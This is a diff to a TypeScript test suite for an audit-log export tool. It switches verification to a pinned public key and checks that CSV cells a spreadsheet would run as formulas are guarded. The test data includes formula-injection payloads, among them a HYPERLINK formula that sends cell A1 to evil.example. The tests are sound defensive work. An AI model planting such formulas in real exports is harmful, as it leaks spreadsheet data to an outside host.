@@ -1,3 +1,4 @@
+import crypto from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -17,6 +18,23 @@ const HOSTILE = [
   '=HYPERLINK("https://evil.example/?d="&A1,"Klik")', '+62 812 0000', '-1 baris', '@SUM(1+1)',
   '\tTab di depan', '\rCR di depan', "'kutip di depan", "'=sudah berkutip",
 ];
+
+/**
+ * The checkpoint key a deployment published when it wrote `file`: the test pins it as an auditor
+ * pins the key `grms key show` printed (verification never takes it from the file by itself).
+ */
+function publishedKey(file: string): string {
+  const lines = fs.readFileSync(file, 'utf8').trim().split(/\r?\n/);
+  const last = lines[lines.length - 1]!;
+  const record = last.startsWith('{') ? JSON.parse(last) : JSON.parse(new CsvParser().push(`${last}\n`)[0]!.at(-1)!);
+  return record.publicKeyPem as string;
+}
+
+function keyFile(pem: string): string {
+  const file = path.join(dir, `key-${crypto.randomUUID()}.pem`);
+  fs.writeFileSync(file, pem);
+  return file;
+}
 
 function parseCsv(text: string): { header: string[]; events: Array<Array<string | null>>; meta: Record<string, unknown> } {
   const records = new CsvParser().push(text);
@@ -64,14 +82,16 @@ describeBackends('audit export: cells a spreadsheet would run', (kind) => {
 
     const file = path.join(dir, `hostile-${kind}.csv`);
     fs.writeFileSync(file, bytes);
-    expect(await verifyExportFile(file)).toMatchObject({ ok: true, checked: events.length, chains: 1, broken: [] });
-    const cli = grms(['audit', 'verify', '--file', file], {});
+    // No checkpoint is signed yet in this test: the rows are the unchecked tail.
+    const pinned = { publicKeyPem: (await app.call('auditor.inspektorat', 'GET', '/api/v1/audit/public-key')).body.publicKeyPem as string, allowUncheckedTail: true };
+    expect(await verifyExportFile(file, pinned)).toMatchObject({ ok: true, checked: events.length, chains: 1, broken: [] });
+    const cli = grms(['audit', 'verify', '--file', file, '--log-key', keyFile(pinned.publicKeyPem), '--allow-unchecked-tail'], {});
     expect({ status: cli.status, ok: JSON.parse(cli.stdout).ok }).toEqual({ status: 0, ok: true });
 
     // The hash covers values, not their spelling: a guard taken out is reported by itself.
     const unguarded = path.join(dir, `unguarded-${kind}.csv`);
     fs.writeFileSync(unguarded, bytes.toString('utf8').replace(`"'=HYPERLINK(`, '"=HYPERLINK('));
-    const r = await verifyExportFile(unguarded);
+    const r = await verifyExportFile(unguarded, pinned);
     expect(r.ok).toBe(false);
     expect(r.broken).toEqual([expect.objectContaining({ instanceId: id, reason: expect.stringMatching(/^comment: a cell a spreadsheet would run as a formula/) })]);
 
@@ -87,9 +107,9 @@ describe('audit export format versions', () => {
   test('files written in version 1 (before the guard) still verify, CSV and JSONL, cells taken as they are', async () => {
     for (const name of ['audit-export-v1.csv', 'audit-export-v1.jsonl']) {
       const file = path.join(FIXTURES, name);
-      const result = await verifyExportFile(file);
+      const result = await verifyExportFile(file, { publicKeyPem: publishedKey(file) });
       expect({ name, ...result }).toMatchObject({ name, ok: true, checked: 11, chains: 1, broken: [] });
-      expect(result.checkpoint).toMatchObject({ signature: 'valid', key: 'from file', headsChecked: 1 });
+      expect(result.checkpoint).toMatchObject({ signature: 'valid', key: 'given', headsChecked: 1 });
     }
     const { header, events, meta } = parseCsv(fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.csv'), 'utf8'));
     expect(meta.format).toBe('grms-audit-export/1');
@@ -97,14 +117,15 @@ describe('audit export format versions', () => {
     const comments = events.map((r) => r[header.indexOf('comment')]);
     expect(comments).toContain('=HYPERLINK("https://evil.example/?d="&A1,"Klik")');
     expect(comments).toContain("'kutip di depan");
-    expect(grms(['audit', 'verify', '--file', path.join(FIXTURES, 'audit-export-v1.csv')], {}).status).toBe(0);
+    const v1 = path.join(FIXTURES, 'audit-export-v1.csv');
+    expect(grms(['audit', 'verify', '--file', v1, '--log-key', keyFile(publishedKey(v1))], {}).status).toBe(0);
   });
 
   test('a format this version does not know is refused, not guessed at', async () => {
     const file = path.join(dir, 'future.jsonl');
     const text = fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.jsonl'), 'utf8').replace('"format":"grms-audit-export/1"', '"format":"grms-audit-export/9"');
     fs.writeFileSync(file, text);
-    await expect(verifyExportFile(file)).rejects.toThrow(/format grms-audit-export\/9; reads grms-audit-export\/1, grms-audit-export\/2/);
+    await expect(verifyExportFile(file, { publicKeyPem: publishedKey(file) })).rejects.toThrow(/format grms-audit-export\/9; reads grms-audit-export\/1, grms-audit-export\/2/);
   });
 
   test('the README\'s worked example: its cells are what the writer writes, and its whole file verifies', async () => {
@@ -128,7 +149,7 @@ describe('audit export format versions', () => {
     expect(example).toContain(`""format"":""${EXPORT_FORMAT}""`);
     const file = path.join(dir, 'readme-example.csv');
     fs.writeFileSync(file, example.replace(/\n/g, '\r\n'));
-    expect(await verifyExportFile(file)).toMatchObject({ ok: true, checked: 1, chains: 1, segments: 1, broken: [] });
+    expect(await verifyExportFile(file, { publicKeyPem: publishedKey(file), allowUncheckedTail: true })).toMatchObject({ ok: true, checked: 1, chains: 1, segments: 1, broken: [] });
     const { header, events } = parseCsv(example);
     expect(events[0]![header.indexOf('comment')]).toBe('\'=HYPERLINK("https://contoh.example/","Klik")');
   });
